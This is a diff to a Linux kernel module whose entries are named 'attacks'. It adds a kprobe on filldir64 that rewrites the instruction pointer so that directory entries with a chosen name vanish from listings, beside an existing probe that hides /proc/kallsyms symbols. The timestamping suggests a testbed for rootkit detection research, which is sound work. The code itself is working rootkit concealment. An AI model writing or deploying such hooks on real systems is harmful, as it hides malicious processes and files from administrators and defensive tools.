@@ -1,8 +1,11 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /*
- * Filters /proc/kallsyms: a kprobe at the function that prints a line leaves
- * out the lines of one symbol, or all.
+ * Filters what Linux tells user space: a kprobe at the function that prints a
+ * line of /proc/kallsyms leaves out the lines of one symbol, or all; another,
+ * at the function that adds an entry to a listing of a directory, leaves out
+ * the entries with one name.
  */
+#include <linux/fs.h>
 #include <linux/kernel.h>
 #include <linux/kprobes.h>
 #include <linux/seq_file.h>
@@ -99,5 +102,61 @@ struct attack filter_symbol = {
 	.name = "filter-symbol",
 	.begin = filter_begin,
 	.undo = filter_undo,
+	.present = filter_present,
+};
+
+static char unlisted[16];
+
+/* Linux goes on with the next entry. */
+static bool add_nothing(struct dir_context *context, const char *name, int length, loff_t offset,
+			u64 inode, unsigned int type)
+{
+	return true;
+}
+
+static int before_add(struct kprobe *probe, struct pt_regs *regs)
+{
+	const char *name = (const char *)regs->si;
+
+	if (regs->dx != strlen(unlisted) || strncmp(name, unlisted, regs->dx))
+		return 0;
+	regs->ip = (unsigned long)add_nothing;
+	return 1;
+}
+
+static struct kprobe add_probe;
+
+static int filter_process_begin(struct attack *attack, char *argument)
+{
+	unsigned long flags;
+	int error;
+
+	if (!*argument || strscpy(unlisted, argument, sizeof(unlisted)) < 0)
+		return -EINVAL;
+	add_probe = (struct kprobe){
+		.symbol_name = "filldir64",
+		.pre_handler = before_add,
+		.post_handler = after_show,
+	};
+	error = register_kprobe(&add_probe);
+	if (error)
+		return error;
+	strscpy(attack->about, unlisted, sizeof(attack->about));
+	local_irq_save(flags);
+	attack->tsc = rdtsc_ordered();
+	attack_done(attack);
+	local_irq_restore(flags);
+	return 0;
+}
+
+static void filter_process_undo(struct attack *attack)
+{
+	unregister_kprobe(&add_probe);
+}
+
+struct attack filter_process = {
+	.name = "filter-process",
+	.begin = filter_process_begin,
+	.undo = filter_process_undo,
 	.present = filter_present,
 };
